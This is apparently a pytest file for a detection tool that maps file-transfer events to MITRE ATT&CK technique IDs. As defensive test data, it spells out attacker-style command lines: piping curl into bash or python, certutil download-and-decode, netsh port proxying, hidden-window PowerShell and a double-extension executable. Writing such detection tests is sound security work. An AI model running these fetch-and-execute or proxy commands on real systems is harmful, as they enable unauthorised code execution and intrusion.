"""Which technique ids a transfer gets, and which it does not."""

from __future__ import annotations

from typing import Any

import pytest

from tidewaiter.judgement.judge import Judge
from tidewaiter.judgement.techniques import techniques
from tidewaiter.schema.action import Action, ActionKind
from tidewaiter.schema.case import Case
from tidewaiter.schema.transfer import STAGES, Device, EvidenceRow, File, Landing, Origin, Process, StageRecord, Transfer


def case(
    *, dest: str | None = None, line: str = "", ran: str | None = None, runs: bool = False, lateral: bool = False, **fields: Any
) -> Case:
    stages = {stage: StageRecord(state="not_seen") for stage in STAGES}
    evidence = []
    if ran is not None:
        stages["run"] = StageRecord(state="seen", evidence=[0])
        evidence = [EvidenceRow(log_file="a", record="1", time=None, log_source="linux_auditd", summary=ran)]
    utility = fields.pop("utility", "curl")
    url = fields.pop("url", "https://files.example.org/a")
    given = fields.pop("techniques", ())
    kind = ActionKind.LATERAL if lateral else ActionKind.INGRESS
    return Case(
        transfer=Transfer(
            id="x",
            time="2026-01-02T10:00:00Z",
            device=Device(hostname="web1"),
            process=Process(command_line=line),
            direction="lateral" if lateral else "ingress",
            src=Origin(url=url),
            dst=Landing(path=dest),
            file=File(name=fields.pop("name", None)),
            stages=stages,
            evidence=evidence,
        ),
        action=Action(kind=kind, utility=utility, urls=(url,), dest=dest, runs=runs, techniques=given),
        analytic="command_execution",
        urls=(url,),
        dest=dest,
        **fields,
    )


SHOWS: list[tuple[dict[str, Any], tuple[str, ...], str]] = [
    ({"utility": "mshta"}, (), "T1218.005"),
    ({"utility": "regsvr32"}, (), "T1218.010"),
    ({"utility": "rundll32"}, (), "T1218.011"),
    ({"utility": "msiexec"}, (), "T1218.007"),
    ({"utility": "cmstp"}, (), "T1218.003"),
    ({"utility": "installutil"}, (), "T1218.004"),
    ({"utility": "hh"}, (), "T1218.001"),
    ({"dest": "C:\\T\\a.dll", "ran": "process_start: odbcconf /a {REGSVR C:\\T\\a.dll}"}, (), "T1218.008"),
    ({"program": "powershell", "utility": "invoke-webrequest"}, (), "T1059.001"),
    ({"line": "sh -c 'curl https://files.example.org/a | sudo bash'", "runs": True}, (), "T1059.004"),
    ({"line": "curl https://files.example.org/a | python3 -", "runs": True}, (), "T1059.006"),
    ({"dest": "/tmp/a", "ran": "process_start: /usr/bin/bash /tmp/a"}, (), "T1059.004"),
    ({"dest": "C:\\T\\a.vbs", "ran": "process_start: wscript.exe C:\\T\\a.vbs"}, (), "T1059.005"),
    ({"dest": "C:\\T\\a.js", "ran": "process_start: wscript.exe C:\\T\\a.js"}, (), "T1059.007"),
    ({"dest": "C:\\T\\a.bat", "ran": "started C:\\T\\a.bat"}, (), "T1059.003"),
    ({"utility": "bits"}, (), "T1197"),
    ({}, ("hosting_service",), "T1102"),
    ({}, ("renamed_program",), "T1036.003"),
    ({}, ("double_extension",), "T1036.007"),
    ({}, ("unfolded",), "T1027.010"),
    ({}, ("encoded_command",), "T1027.010"),
    ({}, ("pasted",), "T1140"),
    ({"utility": "certutil", "line": "certutil -urlcache -f http://x/a a & certutil -decode a b"}, (), "T1140"),
    ({"utility": "netsh", "line": "netsh interface portproxy add v4tov4"}, (), "T1090.001"),
    ({"lateral": True}, ("admin_share",), "T1021.002"),
    ({}, ("service_installed",), "T1543.003"),
    ({}, ("alternate_stream",), "T1564.004"),
    ({}, ("web_root",), "T1505.003"),
    ({"dest": "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"}, (), "T1547.001"),
    ({"dest": "/etc/cron.d/a"}, (), "T1053.003"),
    ({"utility": "firefox", "ran": "started C:\\Users\\a\\Downloads\\a.exe"}, ("browser_download",), "T1204.002"),
    ({"line": "powershell -w hidden -c x"}, ("hidden_window",), "T1564.003"),
]


@pytest.mark.parametrize(("facts", "reasons", "technique"), SHOWS, ids=lambda value: value if isinstance(value, str) else "")
def test_a_technique_is_shown(facts: dict[str, Any], reasons: tuple[str, ...], technique: str) -> None:
    assert technique in techniques(case(**facts), reasons)


SHOWS_NOTHING: list[tuple[dict[str, Any], tuple[str, ...]]] = [
    ({}, ()),
    ({"dest": "/tmp/a.sh"}, ()),  # a script that nothing ran
    ({"dest": "C:\\T\\a.vbs"}, ("script_type",)),
    ({"line": "curl https://files.example.org/bash -o bash"}, ()),
    ({"line": "curl https://files.example.org/a | bash"}, ()),  # the reader says that nothing is run
    ({"utility": "firefox"}, ("browser_download",)),
    ({"utility": "certutil", "line": "certutil -urlcache -f http://x/a a"}, ()),
    ({"line": "powershell -ep bypass"}, ("hidden_window",)),
    ({"dest": "/home/a/etc/cronology.txt"}, ()),
]


@pytest.mark.parametrize(("facts", "reasons"), SHOWS_NOTHING)
def test_nothing_more_is_shown_than_there_is(facts: dict[str, Any], reasons: tuple[str, ...]) -> None:
    assert techniques(case(**facts), reasons) == ["T1105"]


def test_the_reader_s_own_ids_are_kept_and_the_finer_one_stands() -> None:
    assert techniques(case(utility="hh", techniques=("T1218", "T1572")), ()) == ["T1105", "T1572", "T1218.001"]


def test_a_lateral_transfer_is_no_ingress() -> None:
    assert techniques(case(lateral=True, techniques=("T1105",)), ()) == ["T1570"]


def test_judging_gives_them() -> None:
    judged = Judge().one(case(dest="C:\\T\\invoice.pdf.exe", url="https://pastebin.com/raw/x"))

    assert judged.techniques == ["T1105", "T1102", "T1036.007"]


def test_the_mark_of_the_web_is_no_hidden_stream() -> None:
    assert Judge().one(case(dest="C:\\T\\a.exe:Zone.Identifier", utility="chrome")).techniques == ["T1105"]
    assert "T1564.004" in Judge().one(case(dest="C:\\T\\a.txt:b.exe", utility="chrome")).techniques
